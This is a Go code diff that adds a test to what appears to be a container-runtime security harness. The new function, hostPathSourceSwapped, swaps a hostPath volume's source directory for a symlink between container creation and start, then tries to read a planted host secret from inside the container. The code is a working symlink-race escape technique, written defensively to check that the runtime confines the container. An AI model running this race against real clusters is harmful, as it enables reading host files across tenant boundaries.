@@ -29,6 +29,7 @@ func attacks() []attack {
 		{"an image's /dev/console symlink (CVE-2025-52565)", devConsoleSymlink},
 		{"/proc redirected by an image's symlink (CVE-2025-52881)", procRedirected},
 		{"mount target swapped for a symlink between create and start", mountTargetSwapped},
+		{"hostPath source swapped for a symlink between create and start", hostPathSourceSwapped},
 		{"log path planted as a symlink to a host file", logPathSymlink},
 		{"writing the cgroup file system from an unprivileged container", writeCgroupFS},
 		{"image-declared VOLUMEs pointing out of the root (CVE-2022-23648)", imageVolumesOutOfRoot},
@@ -293,6 +294,42 @@ func mountTargetSwapped(e *env) (verdict, string) {
 		return confined, "the volume did not land in the container's /etc: " + lastLine(out)
 	}
 	return confined, "the symlink resolved inside the root: the volume is the container's /etc, the host's untouched"
+}
+
+func hostPathSourceSwapped(e *env) (verdict, string) {
+	// A hostPath volume a tenant can write (through another container
+	// mounting its parent): between CreateContainer and StartContainer
+	// the subdirectory the container mounts becomes a symlink to a host
+	// directory no pod was given.
+	vol := filepath.Join(e.dir, "shared-volume")
+	inner := filepath.Join(vol, "inner")
+	os.MkdirAll(inner, 0o755)
+	hostOnly := filepath.Join(e.dir, "host-only")
+	os.MkdirAll(hostOnly, 0o700)
+	os.WriteFile(filepath.Join(hostOnly, "secret"), []byte(e.secret), 0o600)
+	pod, cfg, err := e.pod(nil)
+	if err != nil {
+		return refused, err.Error()
+	}
+	defer e.rt.RemovePodSandbox(context.Background(), &runtime.RemovePodSandboxRequest{PodSandboxId: pod})
+	defer e.rt.StopPodSandbox(context.Background(), &runtime.StopPodSandboxRequest{PodSandboxId: pod})
+	e.n++
+	name := fmt.Sprintf("source-%d", e.n)
+	resp, err := e.rt.CreateContainer(context.Background(), &runtime.CreateContainerRequest{PodSandboxId: pod, SandboxConfig: cfg, Config: &runtime.ContainerConfig{
+		Metadata: &runtime.ContainerMetadata{Name: name}, Image: &runtime.ImageSpec{Image: e.image}, LogPath: name + ".log",
+		Command: []string{"sh", "-c", "cat /data/secret 2>&1"},
+		Mounts:  []*runtime.Mount{{ContainerPath: "/data", HostPath: inner}},
+	}})
+	if err != nil {
+		return ranOrRefused(err, "", "")
+	}
+	os.Remove(inner)
+	os.Symlink(hostOnly, inner)
+	defer os.Remove(inner)
+	if _, err := e.rt.StartContainer(context.Background(), &runtime.StartContainerRequest{ContainerId: resp.ContainerId}); err != nil {
+		return ranOrRefused(err, "", "")
+	}
+	return ranOrRefused(nil, e.wait(resp.ContainerId), e.secret)
 }
 
 func logPathSymlink(e *env) (verdict, string) {
